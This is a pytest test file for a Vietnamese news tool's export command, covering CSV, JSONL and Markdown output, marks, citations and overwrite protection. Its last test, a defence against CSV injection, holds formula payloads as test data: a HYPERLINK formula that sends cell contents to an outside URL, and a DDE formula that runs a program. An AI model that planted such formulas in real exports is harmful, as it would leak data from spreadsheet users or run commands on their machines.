"""``vnby-tui export``: every article of a query, marked articles, entity tables; CSV, JSONL, Markdown."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tui.cli import main

SHARED = Path(__file__).resolve().parent.parent.parent / "shared"


@pytest.fixture
def news(tmp_path):
    rows = [
        {"id": f"n{i}", "title": f"Bão số {i} đổ bộ", "text": f"Cơn bão số {i} gây mưa lớn ở Quảng Nam, ông Hùng cho biết.",
         "date": f"2020-10-{i + 1:02d}", "source": "dantri.com.vn", "url": f"https://dantri.com.vn/xa-hoi/bao-{i}.htm"}
        for i in range(30)
    ] + [{"id": "other", "title": "Giá xăng | giảm [mạnh]", "text": "Giá xăng giảm.", "url": "https://x.vn/a"}]
    path = tmp_path / "news.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def export(capsys, *argv: str) -> str:
    capsys.readouterr()
    assert main(["export", *argv, "--no-cache"]) == 0
    return capsys.readouterr().out


def search_total(capsys, query: str, path) -> int:
    capsys.readouterr()
    main(["search", query, str(path), "--json", "--no-cache"])
    return json.loads(capsys.readouterr().out)["total"]


def test_csv_has_a_header_and_one_row_per_hit_uncapped(news, capsys):
    rows = list(csv.DictReader(io.StringIO(export(capsys, "bão", str(news), "--format", "csv"))))
    assert len(rows) == 30 == search_total(capsys, "bão", news)
    first = rows[0]
    assert first["url"].startswith("https://dantri.com.vn/") and first["source"] == "dantri.com.vn"
    assert first["date"].startswith("2020-10-") and first["title"] in first["citation"]
    assert first["url"] in first["citation"]


def test_jsonl_rows_parse_and_markdown_rows_carry_the_url(news, capsys, tmp_path):
    lines = export(capsys, "bão", str(news), "--format", "jsonl").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == 30 and all(r["url"] for r in records)
    target = tmp_path / "out.md"
    assert main(["export", "giá xăng", str(news), "--format", "md", "-o", str(target), "--no-cache"]) == 0
    markdown = target.read_text(encoding="utf-8")
    assert "<https://x.vn/a>" in markdown
    assert "Giá xăng \\| giảm \\[mạnh\\]" in markdown, "a title cannot break the Markdown link or table"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_marked_and_tagged_exports(news, capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    assert main(["mark", "n3", str(news), "--star", "--no-cache"]) == 0
    assert main(["mark", "n5", str(news), "--tag", "miền Trung", "--no-cache"]) == 0
    marked = list(csv.DictReader(io.StringIO(export(capsys, str(news), "--marked", "--format", "csv"))))
    assert [(r["id"], r["starred"], r["tags"]) for r in marked] == [("n3", "yes", ""), ("n5", "", "miền Trung")]
    tagged = [json.loads(x) for x in export(capsys, str(news), "--tag", "miền Trung", "--format", "jsonl").splitlines()]
    assert [r["id"] for r in tagged] == ["n5"]


def test_a_query_s_export_carries_the_stars_tags_and_notes_put_on_its_articles(news, capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    unmarked = list(csv.DictReader(io.StringIO(export(capsys, "bão", str(news), "--format", "csv"))))
    assert all(r["starred"] == r["tags"] == r["notes"] == "" for r in unmarked)
    assert not (tmp_path / "data").exists(), "exporting writes no marks database"
    assert main(["mark", "n3", str(news), "--star", "--no-cache"]) == 0
    assert main(["mark", "n3", str(news), "--tag", "miền Trung", "--no-cache"]) == 0
    assert main(["mark", "n5", str(news), "--note", "gọi lại cho ông Hùng", "--no-cache"]) == 0
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export(capsys, "bão", str(news), "--format", "csv")))}
    assert (rows["n3"]["starred"], rows["n3"]["tags"], rows["n3"]["notes"]) == ("yes", "miền Trung", "")
    assert (rows["n5"]["starred"], rows["n5"]["notes"]) == ("", "gọi lại cho ông Hùng")
    assert rows["n4"]["starred"] == rows["n4"]["tags"] == rows["n4"]["notes"] == ""
    records = {r["id"]: r for r in map(json.loads, export(capsys, "bão", str(news), "--format", "jsonl").splitlines())}
    assert records["n3"]["starred"] is True and records["n3"]["tags"] == ["miền Trung"]
    assert records["n5"]["notes"] == ["gọi lại cho ông Hùng"]
    markdown = export(capsys, "bão", str(news), "--format", "md")
    items = {line.split("Bão số ")[1].split(" ")[0]: line for line in markdown.splitlines() if line[0].isdigit()}
    assert items["3"].split(". ", 1)[1].startswith("★ [Bão số 3") and "★" not in items["4"] + items["5"]
    assert "   - tags: miền Trung\n" in markdown and "   - note: gọi lại cho ông Hùng\n" in markdown
    assert markdown.count("   - ") == 2, "only the marked articles carry marks"


def test_a_csv_file_opens_in_a_spreadsheet_with_its_diacritics(news, capsys, tmp_path):
    """Written to a file, CSV starts with a UTF-8 byte-order mark (Excel reads the file as UTF-8
    only then); on standard output, which scripts read, it has none."""
    target = tmp_path / "bao.csv"
    assert main(["export", "bão", str(news), "--format", "csv", "-o", str(target), "--no-cache"]) == 0
    assert target.read_bytes().startswith(b"\xef\xbb\xbfrank,")
    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["rank"] == "1" and rows[0]["title"].startswith("Bão số")
    assert export(capsys, "bão", str(news), "--format", "csv").startswith("rank,")
    jsonl = tmp_path / "bao.jsonl"
    assert main(["export", "bão", str(news), "--format", "jsonl", "-o", str(jsonl), "--no-cache"]) == 0
    assert jsonl.read_bytes().startswith(b'{"rank"')


def test_entity_table_of_the_corpus_and_of_a_query(news, capsys):
    whole = list(csv.DictReader(io.StringIO(export(capsys, "--entities", str(news), "--format", "csv"))))
    by_name = {r["name"]: r for r in whole}
    assert by_name["Quảng Nam"]["articles"] == "30"
    over_query = list(csv.DictReader(io.StringIO(export(capsys, "bão số 7", str(news), "--entities", "--format", "csv"))))
    counts = {r["name"]: int(r["articles"]) for r in over_query}
    assert 1 <= counts["Quảng Nam"] <= search_total(capsys, "bão số 7", news)


def test_every_csv_row_has_the_header_s_columns_whatever_its_authors_titles_tags_and_notes(capsys, tmp_path, monkeypatch):
    """A new user's trial: 'the author column shifts later columns'.  Articles with no author,
    one, two (one a list, one a byline in the text), titles with commas, quotes and a line
    break, tags and notes holding '; ' and lines: read back with csv.reader, every row has the
    header's columns and every cell holds what the JSON-lines export says of the article."""
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    rows = [
        {"id": "a0", "title": 'Bão, "siêu bão" đổ bộ', "text": "Cơn bão đổ bộ Quảng Nam.", "url": "https://x.vn/a0"},
        {"id": "a1", "title": "Bão số 1, mưa lớn", "author": "Nguyễn Văn An", "text": "Cơn bão số 1 gây mưa.",
         "date": "2020-10-01", "source": "x.vn"},
        {"id": "a2", "title": 'Bão "số 2"; lũ', "authors": ["Trần Bình", "Lê Chi"], "text": "Cơn bão số 2 gây lũ."},
        {"id": "a3", "title": None, "text": "Cơn bão số 3 gây mưa lớn ở Huế, ông Hùng cho biết.\nHoàng Quốc"},
    ]
    path = tmp_path / "bao.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    assert main(["mark", "a1", str(path), "--tag", "miền Trung; lũ", "--no-cache"]) == 0
    assert main(["mark", "a1", str(path), "--tag", "cần kiểm tra", "--no-cache"]) == 0
    assert main(["mark", "a1", str(path), "--note", "gọi lại; hỏi ông An", "--no-cache"]) == 0
    assert main(["mark", "a1", str(path), "--note", "dòng một\n\n\ndòng hai, \"trích\"", "--no-cache"]) == 0
    target = tmp_path / "bao.csv"
    assert main(["export", "bão", str(path), "--format", "csv", "-o", str(target), "--no-cache"]) == 0
    with open(target, encoding="utf-8-sig", newline="") as handle:
        header, *lines = list(csv.reader(handle))
    assert len(lines) == 4 and all(len(line) == len(header) for line in lines), [len(line) for line in lines]
    records = {r["id"]: r for r in map(json.loads, export(capsys, "bão", str(path), "--format", "jsonl").splitlines())}
    cells = {line[header.index("id")]: dict(zip(header, line)) for line in lines}
    assert [cells[i]["author"] for i in ("a0", "a1", "a2", "a3")] == ["", "Nguyễn Văn An", "Trần Bình, Lê Chi",
                                                                      "Hoàng Quốc"]
    for key, record in records.items():
        for field in ("title", "author", "date", "source", "url", "citation", "snippet"):
            assert cells[key][field] == (record[field] or ""), (key, field)
    assert cells["a1"]["tags"].split("\n") == records["a1"]["tags"] == ["cần kiểm tra", "miền Trung; lũ"]
    assert cells["a1"]["notes"].split("\n\n") == ["gọi lại; hỏi ông An", 'dòng một\ndòng hai, "trích"']
    assert cells["a0"]["tags"] == cells["a0"]["notes"] == ""


def test_export_without_a_query_or_a_selection_is_one_line(news, capsys):
    capsys.readouterr()
    assert main(["export", "--format", "csv"]) == 1
    assert len(capsys.readouterr().err.strip().splitlines()) == 1


@pytest.mark.skipif(not (SHARED / "corpus" / "dantri-unc.jsonl").exists(), reason="../shared/corpus absent")
def test_export_of_a_real_query_writes_every_hit(capsys, tmp_path):
    corpus = SHARED / "corpus" / "dantri-unc.jsonl"
    target = tmp_path / "covid.csv"
    # The export builds the (test's own) cache and the search reads it: one cold build of 12 MB, not two.
    assert main(["export", "covid", str(corpus), "--format", "csv", "-o", str(target)]) == 0
    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    capsys.readouterr()
    assert main(["search", "covid", str(corpus), "--json"]) == 0
    assert len(rows) == json.loads(capsys.readouterr().out)["total"] > 100
    assert all(row["url"].startswith("https://dantri.com.vn") for row in rows)


def test_the_citation_of_an_export_names_the_byline_and_quotes_no_made_up_headline(capsys, tmp_path):
    """dantri's articles have no title field: the citation is not their first sentence in
    quotes, and it names the reporter signing the story on its last line, as the reader does."""
    row = {"id": "unc-news_sport_045", "title": None, "date": "2021-04-23", "source": "dantri.com.vn",
           "url": "https://dantri.com.vn/the-thao/bau-duc-20210423221056661.htm",
           "text": "Bầu Đức không đồng ý để Kiatisuk thay HLV Park Hang Seo dẫn dắt đội tuyển Việt Nam.\n"
                   "Theo ông, bóng đá Việt Nam cần những HLV có đẳng cấp cao hơn.\nHoàng Quốc"}
    path = tmp_path / "dantri.jsonl"
    path.write_text(json.dumps(row, ensure_ascii=False) + "\n", encoding="utf-8")
    [record] = map(json.loads, export(capsys, "Kiatisuk", str(path), "--format", "jsonl").splitlines())
    assert record["author"] == "Hoàng Quốc"
    assert record["citation"] == f"Hoàng Quốc, dantri.com.vn, 2021-04-23, {row['url']}"
    [item] = [line for line in export(capsys, "Kiatisuk", str(path), "--format", "md").splitlines() if line[0] == "1"]
    assert item == f"1. Hoàng Quốc, dantri.com.vn, 2021-04-23 — <{row['url']}>", "no made-up title as link text"


def test_a_markdown_export_links_only_headlines_and_names_an_untitled_bare_article_by_its_id(capsys, tmp_path):
    """A title the loader made from the text (no title field, a text file without a headline)
    is not a link's text in Markdown, as it is not quoted in a citation; an article with a
    headline keeps its linked title; one with nothing else to say is named by its id."""
    rows = [{"id": "a1", "title": "Bão số 3 đổ bộ Quảng Nam", "source": "x.vn", "url": "https://x.vn/a1",
             "text": "Cơn bão số 3 đổ bộ vào Quảng Nam chiều qua."},
            {"id": "a2", "title": None, "text": "Cơn bão số 3 gây mưa lớn ở Quảng Nam. Hàng nghìn người sơ tán."}]
    path = tmp_path / "bao.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    items = {line.split(". ", 1)[1] for line in export(capsys, "bão số 3", str(path), "--format", "md").splitlines()
             if line[:1].isdigit()}
    assert items == {"[Bão số 3 đổ bộ Quảng Nam](<https://x.vn/a1>) — x.vn — <https://x.vn/a1>", "a2"}


def test_an_export_never_replaces_the_corpus_nor_an_existing_file_unasked(news, tmp_path, capsys):
    """A new user's trial: 'export … news.jsonl -o news.jsonl' turned the corpus into 3 kB of
    Markdown, and any existing file was replaced without a word."""
    corpus = news.read_bytes()
    assert main(["export", "bão", str(news), "--format", "md", "-o", str(news), "--no-cache"]) == 1
    assert capsys.readouterr().err == f"vnby-tui: {news} is the corpus being read ({news}): choose another file\n"
    assert main(["export", "bão", str(news), "--format", "md", "-o", str(news), "--force", "--no-cache"]) == 1
    folder = tmp_path / "kho"
    folder.mkdir()
    (folder / "a.jsonl").write_bytes(corpus)
    assert main(["export", "bão", str(folder), "--format", "jsonl", "-o", str(folder / "out.jsonl"), "--no-cache"]) == 1
    assert "is the corpus being read" in capsys.readouterr().err  # read as articles next time
    assert news.read_bytes() == corpus and sorted(p.name for p in folder.iterdir()) == ["a.jsonl"]
    kept = tmp_path / "ghi-chu.md"
    kept.write_text("mine", encoding="utf-8")
    assert main(["export", "bão", str(news), "--format", "md", "-o", str(kept), "--no-cache"]) == 1
    assert capsys.readouterr().err == f"vnby-tui: {kept} exists; --force replaces it\n" and kept.read_text() == "mine"
    assert main(["export", "bão", str(news), "--format", "md", "-o", str(kept), "--force", "--no-cache"]) == 0
    assert "Bão số" in kept.read_text(encoding="utf-8")


def test_a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_text(capsys, tmp_path, monkeypatch):
    """CSV injection (OWASP): a cell opening with '=', '+', '-', '@', a tab or a carriage return
    is run as a formula by Excel or LibreOffice ('=HYPERLINK(…)' in a title, a tag or a note);
    in CSV, and only there, such a cell opens with a single quote, which spreadsheets show as
    text; the rest of the cell is what JSONL says.  A sign inside a cell is left alone; JSONL and
    Markdown are not touched."""
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    titles = {"f0": '=HYPERLINK("http://x.vn/?"&A1,"Bão số 0")', "f1": "+84 bão số 1", "f2": "-5 độ C, bão số 2",
              "f3": "@SUM(1+1) bão số 3", "f4": "Bão số 4 = gió cấp 12"}
    rows = [{"id": key, "title": title, "text": f"Cơn bão {key} gây mưa lớn.", "url": f"https://x.vn/{key}"}
            for key, title in titles.items()]
    path = tmp_path / "bao.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    assert main(["mark", "f4", str(path), "--tag", "=1+1", "--no-cache"]) == 0
    assert main(["mark", "f4", str(path), "--note", "\t=cmd|' /c calc'!A0", "--no-cache"]) == 0
    assert main(["mark", "f1", str(path), "--note", "\r@x", "--no-cache"]) == 0
    target = tmp_path / "bao.csv"
    assert main(["export", "bão", str(path), "--format", "csv", "-o", str(target), "--no-cache"]) == 0
    with open(target, encoding="utf-8-sig", newline="") as handle:
        header, *lines = list(csv.reader(handle))
    cells = {line[header.index("id")]: dict(zip(header, line)) for line in lines}
    records = {r["id"]: r for r in map(json.loads, export(capsys, "bão", str(path), "--format", "jsonl").splitlines())}
    assert {key: cells[key]["title"] for key in titles} == {
        "f0": "'" + titles["f0"], "f1": "'" + titles["f1"], "f2": "'" + titles["f2"], "f3": "'" + titles["f3"],
        "f4": titles["f4"]}
    assert cells["f4"]["tags"] == "'=1+1"
    assert cells["f4"]["notes"][:1] == "'" and cells["f4"]["notes"][1:].lstrip() == "=cmd|' /c calc'!A0"
    assert cells["f1"]["notes"][:1] == "'" and cells["f1"]["notes"][1:].lstrip() == "@x"
    for key, record in records.items():
        assert record["title"] == titles[key]
        for field in ("title", "citation", "url", "snippet"):
            cell = cells[key][field]
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (key, field, cell)
            assert cell.removeprefix("'") == (record[field] or ""), (key, field)
    assert records["f4"]["tags"] == ["=1+1"]
    markdown = export(capsys, "bão", str(path), "--format", "md")
    assert titles["f2"] in markdown and "'" + titles["f2"] not in markdown
